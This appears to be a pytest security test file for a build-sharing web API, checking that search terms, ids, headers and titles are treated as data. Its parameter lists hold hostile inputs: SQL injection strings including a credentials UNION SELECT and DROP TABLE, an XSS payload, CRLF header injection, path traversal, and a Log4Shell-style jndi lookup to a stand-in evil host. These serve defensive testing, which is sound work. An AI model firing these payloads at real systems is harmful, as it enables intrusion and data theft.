"""What people write is data: in SQL, in searches, in headers, in logs and on the page."""

from typing import Any

import httpx
import pytest

from server.library.terms import words
from tests.wire.serving import Owner, Server

NUMBERS = iter(range(10_000))
DOCUMENT = {"format": 1, "archetype": "Class_Scrapper"}
MARKUP = "<img src=x onerror=alert(1)>"


class Library:
    """Two public builds of which a search may find none, one or both."""

    def __init__(self, owner: Owner) -> None:
        self.owner = owner
        self.fire = self._save("Nova's fire_100%", ["farm"])
        self.ice = self._save('The "ice" tank', ["raid"])

    def _save(self, title: str, tags: list[str]) -> str:
        body = {"build": DOCUMENT, "title": title, "visibility": "public", "tags": tags}
        saved: str = self.owner.call("POST", "/api/v1/builds", body, status=201)["id"]
        return saved

    def search(self, **query: Any) -> httpx.Response:
        query = {"author": self.owner.person} | query
        return self.owner.http.get("/api/v1/builds", params=query)

    def found(self, **query: Any) -> set[str]:
        answer = self.search(**query)
        assert answer.status_code == 200, answer.text
        return {each["id"] for each in answer.json()["builds"]}


@pytest.fixture(scope="module")
def library(server: Server) -> Library:
    return Library(Owner(server.url, "Ann"))


def test_the_searches_below_could_find_something(library: Library) -> None:
    assert library.found() == {library.fire, library.ice}
    assert library.found(text="nova") == {library.fire}
    assert library.found(text="fire_100%") == {library.fire}
    assert library.found(text='"ice') == {library.ice}


SQL = [
    "' OR '1'='1",
    "'; DROP TABLE builds; --",
    "x' UNION SELECT hash FROM credentials --",
    "nova' AND '1'='1' AND 'ice",
    "\\' OR 1=1 --",
    "nova ice",
    "$9",
    ":text",
    "%(text)s",
    "{0}",
]
# What means something to LIKE, to full-text searches, and to nobody.
WILD = [
    "%",
    "_",
    "%%%",
    "n_va",
    "nov%",
    "*",
    "no*a",
    '"',
    '""',
    "NEAR(nova ice)",
    "NOT nova",
    "^",
    "\\",
    "$1",
    "nova\x1f",
]


@pytest.mark.parametrize("text", SQL)
def test_a_text_that_is_sql_finds_only_what_has_it(library: Library, text: str) -> None:
    assert library.found(text=text) == set()


@pytest.mark.parametrize("text", [*SQL, *WILD])
def test_nothing_in_a_text_stands_for_something_else(library: Library, text: str) -> None:
    assert library.found(text=text) == library.found(text=" ".join(words(text)))


@pytest.mark.parametrize("value", [*SQL, "mine", MARKUP, "a" * 300])
@pytest.mark.parametrize("field", ["archetype", "powerset", "tag", "author", "after", "whose"])
def test_no_filter_is_more_than_a_value(library: Library, field: str, value: str) -> None:
    answer = library.search(**{field: value})
    if answer.status_code == 200:
        assert answer.json()["builds"] == []
    else:
        assert answer.status_code in (400, 401), answer.text


@pytest.mark.parametrize(
    "at_least",
    [
        "defense.ranged;DROP TABLE builds:0",
        "place:0",
        "shown:0",
        "build_id:0",
        "defense.ranged:0 OR 1=1",
        "defense.ranged:nan",
        "defense.ranged:inf",
        "defense.ranged:1e308",
        "defense.ranged",
        ":",
        "",
    ],
)
def test_no_column_is_named_from_outside(library: Library, at_least: str) -> None:
    answer = library.search(at_least=at_least)
    if answer.status_code == 200:
        assert answer.json()["builds"] == []
    else:
        assert answer.status_code == 400, answer.text


IDS = [
    "x' OR '1'='1",
    "*",
    "{session:x}:log",
    "..%2f..%2faccount",
    "%252e",
    "a" * 5000,
    "ｎ",
    "$ne",
]


@pytest.mark.parametrize("id_", IDS)
def test_an_id_is_never_a_pattern_a_key_or_a_path(library: Library, id_: str) -> None:
    owner = library.owner
    bearer = {"Authorization": f"Bearer {owner.token}"}
    for path in (
        f"/api/v1/sessions/{id_}",
        f"/api/v1/sessions/{id_}/members",
        f"/api/v1/builds/{id_}",
        f"/api/v1/builds/{id_}/versions/newest",
        f"/api/v1/sessions/{owner.session}/members/{id_}",
    ):
        method = "DELETE" if path.endswith(f"members/{id_}") and owner.session in path else "GET"
        answer = owner.http.request(method, path, headers=bearer)
        assert answer.status_code in (400, 403, 404, 405, 414, 431), (path[:80], answer.text)


HUGE = "9" * 30


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("GET", f"/api/v1/sessions/{{0}}/said?before={HUGE}", None),
        ("GET", f"/api/v1/sessions/{{0}}/said?after={HUGE}", None),
        ("GET", f"/api/v1/sessions/{{0}}/history?before={HUGE}", None),
        ("GET", f"/api/v1/sessions/{{0}}/history/{HUGE}", None),
        ("GET", f"/api/v1/sessions/{{0}}/history/compare?from={HUGE}", None),
        ("GET", f"/api/v1/builds/{{1}}/versions/{HUGE}", None),
        ("GET", f"/api/v1/builds/{{1}}/versions?before={HUGE}", None),
        ("GET", f"/api/v1/builds/{{1}}/compare?from=1&to={HUGE}", None),
        ("POST", "/api/v1/sessions/{0}/history/restore", {"base": 0, "revision": int(HUGE)}),
        ("POST", "/api/v1/builds/{1}/restore", {"version": int(HUGE)}),
        ("PUT", "/api/v1/sessions/{0}/owner", {"person": "a\u0000b"}),
        ("POST", "/api/v1/sessions/{0}/history/undo", {"base": 0, "person": "a\u0000b"}),
        ("POST", "/api/v1/builds", {"session": "a\u0000b"}),
    ],
)
def test_no_number_is_too_large_and_no_id_unprintable_for_a_database(
    library: Library, method: str, path: str, body: Any
) -> None:
    """Refused before anybody asks one: SQLite takes 64 bits, and PostgreSQL no NUL."""
    owner = library.owner
    headers = {"If-Match": "*", "Idempotency-Key": f"huge-edit-{next(NUMBERS)}"}
    path = path.format(owner.session, library.fire)
    owner.call(method, path, body, status=400, **headers)


def test_an_edition_that_is_none_of_ours_matches_none(library: Library) -> None:
    for etag in ("9" * 5000, "-1", "", "0x1", "1_0"):
        headers = {"If-Match": f'"{etag}"', "Authorization": f"Bearer {library.owner.token}"}
        path = f"/api/v1/builds/{library.fire}"
        assert library.owner.http.patch(path, json={}, headers=headers).status_code == 412


# Headers and logs


LINES = ["a\r\nSet-Cookie: x=1", "a\nb", "a\rb", "a\u2028b", "a\u0085b", "a\u0000b", "a\u202eb"]


@pytest.mark.parametrize("text", LINES)
def test_no_name_or_title_breaks_a_line(library: Library, text: str) -> None:
    owner = library.owner
    for method, path, body in (
        ("POST", "/api/v1/guests", {"name": text}),
        ("POST", "/api/v1/sessions", {"title": text}),
        ("POST", "/api/v1/builds", {"build": DOCUMENT, "title": text}),
        ("POST", "/api/v1/builds", {"build": DOCUMENT, "title": "x", "tags": [text]}),
        ("POST", "/api/v1/builds", {"build": DOCUMENT, "title": "x", "message": text}),
        ("PATCH", f"/api/v1/builds/{library.fire}", {"title": text}),
        ("PATCH", f"/api/v1/sessions/{owner.session}", {"title": text}),
        ("POST", "/api/v1/accounts", {"username": text, "password": "four words nobody says"}),
        ("POST", "/api/v1/accounts", {"username": "fine", "password": text, "name": text}),
    ):
        assert "set-cookie" not in owner.call(method, path, body, status=400, **{"If-Match": "*"})


def test_what_is_asked_for_is_in_no_header_of_the_answer(server: Server) -> None:
    for path in ("/api/v1/%0d%0aX-Evil:1", "/s/%0d%0aX-Evil:1", "/x%0aX-Evil:1?a=%0d%0aX-Evil:1"):
        answer = httpx.get(server.url.rstrip("/") + path, timeout=20)
        assert "x-evil" not in answer.headers


@pytest.fixture
def strange() -> dict[str, str]:
    """Headers that somebody may find again in a log or an answer."""
    return {
        "User-Agent": "red ${jndi:ldap://evil.example/a}",
        "Referer": "https://evil.example/?%0a2026-01-01 ERROR made up",
        "X-Forwarded-For": "not an address\t{{7*7}}",
        "X-Request-ID": "made up ERROR",
    }


def test_nobody_writes_lines_into_our_log(
    server: Server, library: Library, strange: dict[str, str]
) -> None:
    before = len(server.said)
    for path in ("/api/v1/nothing%0aERROR", "/api/v1/account", "/api/v1/sessions/x%1b[31m"):
        answer = library.owner.http.get(path, headers=strange)
        assert answer.status_code in (401, 404)
        assert "made up" not in str(answer.headers)
    said = server.said[before:]
    assert not [line for line in said if "\x1b" in line or line.startswith("ERROR")]
    assert not [line for line in said if "made up" in line or "jndi" in line]


def test_markup_is_data_and_never_a_page(library: Library) -> None:
    owner = library.owner
    body = {"build": DOCUMENT, "title": MARKUP, "visibility": "public"}
    saved = owner.call("POST", "/api/v1/builds", body, status=201)
    for path in (f"/api/v1/builds/{saved['id']}", f"/api/v1/builds/{MARKUP}"):
        answer = owner.http.get(path, headers={"Accept": "text/html"})
        assert answer.headers["content-type"].partition(";")[0].endswith("json")
        assert answer.headers["x-content-type-options"] == "nosniff"
    page = owner.http.get(f"/b/{saved['id']}", headers={"Accept": "text/html"})
    assert MARKUP not in page.text
